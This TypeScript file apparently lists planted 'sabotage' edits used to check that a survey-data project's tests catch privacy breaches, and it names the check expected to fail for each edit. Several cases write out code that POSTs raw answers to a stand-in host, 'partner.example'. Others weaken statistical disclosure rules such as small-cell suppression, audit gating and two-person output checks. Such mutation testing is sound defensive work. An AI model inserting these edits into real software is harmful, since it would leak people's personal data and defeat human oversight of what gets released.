/** What leaves the team (rules 19 and 23 to 25). */
import { by, change, type Planned, types, write } from "./sabotage.ts"

const router = "src/server/router.ts"
const submit = "src/server/submit.ts"
const matched = "  const matched = yield* match(admitted)\n"
const speaks = by("test", "architecture.test.ts", "nothing speaks to another host by what needs no import")

const sharing: readonly Planned[] = [
  {
    rule: "raw-data-never-shared",
    sabotage: "add an egress module",
    way: "by an import",
    edits: [
      write(
        "src/server/export.ts",
        `import { request } from "node:https"

export const share = (answers: string) => request("https://partner.example", { method: "POST" }).end(answers)`,
      ),
    ],
    caughtBy: [by("test", "architecture.test.ts", "nothing opens a connection but the browser's own tRPC client")],
  },
  {
    rule: "raw-data-never-shared",
    sabotage: "add an egress module",
    way: "by an import at run time",
    edits: [
      write(
        "src/server/export.ts",
        `export const share = async (answers: string) => {
  const { request } = await import("node:https")
  request("https://partner.example", { method: "POST" }).end(answers)
}`,
      ),
    ],
    caughtBy: [speaks],
  },
  {
    rule: "raw-data-never-shared",
    sabotage: "outbound fetch",
    way: "of a response",
    edits: [
      change(
        submit,
        matched,
        `${matched}  yield* Effect.promise(() => fetch("https://partner.example", { method: "POST", body: JSON.stringify(matched) }))\n`,
      ),
    ],
    caughtBy: [speaks],
  },
  {
    rule: "raw-data-never-shared",
    sabotage: "outbound fetch",
    way: "by its longer name",
    edits: [
      change(
        submit,
        matched,
        `${matched}  yield* Effect.promise(() => globalThis.fetch("https://partner.example", { method: "POST", body: JSON.stringify(matched) }))\n`,
      ),
    ],
    caughtBy: [speaks],
  },
]

const published: readonly Planned[] = [
  {
    rule: "aggregates-only-beyond-the-team",
    sabotage: "publish rows",
    way: "by a procedure",
    edits: [
      change(
        router,
        "import { busy, refused }",
        'import type { Checked } from "../../policy/stage.ts"\nimport { busy, refused }',
      ),
      change(router, "return RegisterMatches.of(exit.value)", "return exit.value as unknown as readonly Checked[]"),
    ],
    caughtBy: [types("raw-data-never-shared")],
  },
  {
    rule: "aggregates-only-beyond-the-team",
    sabotage: "publish rows",
    way: "as a table",
    edits: [
      write(
        "src/server/publishing.ts",
        `import type { ProposedTable } from "../../policy/disclosure/table.ts"
import type { Checked } from "../../policy/stage.ts"

export const proposed = (rows: readonly Checked[], author: ProposedTable["author"]): ProposedTable => ({
  title: "All answers",
  author,
  geographies: ["England"],
  cells: rows,
})`,
      ),
    ],
    caughtBy: [{ layer: "types", says: "is missing the following properties from type 'Cell'" }],
  },
  {
    rule: "aggregates-only-beyond-the-team",
    sabotage: "publish LA-level table",
    way: "in the call",
    edits: [
      write(
        "src/server/publishing.ts",
        `import { nationalOrRegional } from "../../policy/rules/aggregates-only-beyond-the-team.ts"

export const draft = nationalOrRegional({ title: "Hopes by council", geographies: ["E09000007"], cells: [] })`,
      ),
    ],
    caughtBy: [types("aggregates-only-beyond-the-team")],
  },
  {
    rule: "aggregates-only-beyond-the-team",
    sabotage: "publish LA-level table",
    way: "past the gate",
    edits: [
      change(
        "policy/rules/aggregates-only-beyond-the-team.ts",
        'geographies.every((each) => each === "England" || Object.hasOwn(regions, each))',
        'geographies.every((each) => each === "England" || each in regions || each.startsWith("E"))',
      ),
    ],
    caughtBy: [by("runtime", "policy/aggregates-only-beyond-the-team.test.ts", "any geography but England")],
  },
  {
    rule: "small-cells-suppressed",
    sabotage: "one suppressed cell per row",
    way: "in the table itself",
    waitsFor: "secondary suppression and its audit",
    until: "policy/disclosure/audit.ts",
  },
  {
    rule: "small-cells-suppressed",
    sabotage: "one suppressed cell per row",
    way: "and nobody waits for the audit",
    edits: [change("policy/rules/small-cells-suppressed.ts", 'return audit.verdict === "safe" && ', "return ")],
    caughtBy: [by("runtime", "policy/small-cells-suppressed.test.ts", "a table whose audit is unsafe")],
  },
  {
    rule: "small-cells-suppressed",
    sabotage: "one suppressed cell per row",
    way: "and the threshold is lowered",
    edits: [change("policy/parameters.ts", 'table shows",\n    value: 10,', 'table shows",\n    value: 5,')],
    caughtBy: [by("test", "policy/parameters.test.ts", "what is promised is there, as promised")],
  },
  {
    rule: "small-cells-suppressed",
    sabotage: "two overlapping tables",
    waitsFor: "the audit of a table against those released before it",
    until: "policy/disclosure/audit.ts",
  },
  {
    rule: "small-cells-suppressed",
    sabotage: "zero row reveals a group",
    waitsFor: "secondary suppression and its audit",
    until: "policy/disclosure/audit.ts",
  },
]

const outputs = "policy/rules/outputs-checked.ts"

const checking: readonly Planned[] = [
  {
    rule: "outputs-checked",
    sabotage: "author checks own table",
    edits: [
      change(
        outputs,
        "if (checker.person === author) return",
        "if (checker.person === author && first === second) return",
      ),
    ],
    caughtBy: [by("runtime", "policy/outputs-checked.test.ts", "the author as a checker, in either place")],
  },
  {
    rule: "outputs-checked",
    sabotage: "same checker twice",
    way: "by naming one alone",
    edits: [
      write(
        "src/server/checking.ts",
        `import { type Checker, checkedBy } from "../../policy/rules/outputs-checked.ts"

export const alone = (checker: Checker) => checkedBy(checker)`,
      ),
    ],
    caughtBy: [types("outputs-checked")],
  },
  {
    rule: "outputs-checked",
    sabotage: "same checker twice",
    way: "past the gate",
    edits: [change(outputs, "if (first.person === second.person) return", "if (first === undefined) return")],
    caughtBy: [by("runtime", "policy/outputs-checked.test.ts", "the same checker twice")],
  },
]

export const beyondSabotages: readonly Planned[] = [...sharing, ...published, ...checking]
